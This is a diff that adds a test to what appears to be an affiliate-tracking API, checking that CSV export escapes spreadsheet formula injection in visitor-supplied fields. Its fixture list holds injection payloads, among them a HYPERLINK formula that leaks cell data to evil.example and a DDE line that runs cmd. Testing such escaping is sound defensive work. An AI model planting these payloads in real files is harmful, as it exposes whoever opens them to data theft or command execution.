@@ -212,3 +212,47 @@ async def test_bad_input_is_a_400_naming_the_field(
 async def test_missing_key_is_401(client: httpx.AsyncClient) -> None:
     response = await client.post(TABLE, json=_body())
     assert response.status_code == 401
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+async def test_export_neutralises_visitor_text_for_spreadsheets(
+    client: httpx.AsyncClient, db: Database, network_headers: dict[str, str]
+) -> None:
+    offer = await make_offer(db, name="=Offer")
+    affiliate = await make_affiliate(db, name="@Partner")
+    clicks = [
+        {
+            "transaction_id": new_hex_id(),
+            "created_at": DAY + timedelta(minutes=i),
+            "network_offer_id": offer.network_offer_id,
+            "network_affiliate_id": affiliate.network_affiliate_id,
+            "network_advertiser_id": offer.network_advertiser_id,
+            "is_unique": True,
+            "sub1": sub1,
+        }
+        for i, sub1 in enumerate([*HOSTILE, "plain"])
+    ]
+    async with db.write() as session:
+        session.add_all([Click(**c) for c in clicks])
+        await session.flush()
+        await rollup.add_clicks(session, clicks)
+    body = _body(columns=[{"column": "offer"}, {"column": "sub1"}])
+    response = await client.post(TABLE + "/export", json=body, headers=network_headers)
+    assert response.status_code == 200, response.text
+    rows = list(csv.DictReader(io.StringIO(response.text)))
+    assert sorted(r["sub1"] for r in rows) == sorted(["'" + v for v in HOSTILE] + ["plain"])
+    assert {r["sub1_id"] for r in rows} == {r["sub1"] for r in rows}
+    assert {r["offer"] for r in rows} == {"'=Offer"}
+    assert all(int(r["total_click"]) == 1 for r in rows)
+    # Text cells are quoted; numbers are not, so they stay numbers in a spreadsheet.
+    plain = next(line for line in response.text.splitlines() if '"plain"' in line)
+    assert plain.startswith(f'"{offer.network_offer_id}","\'=Offer","plain","plain",0,1,')
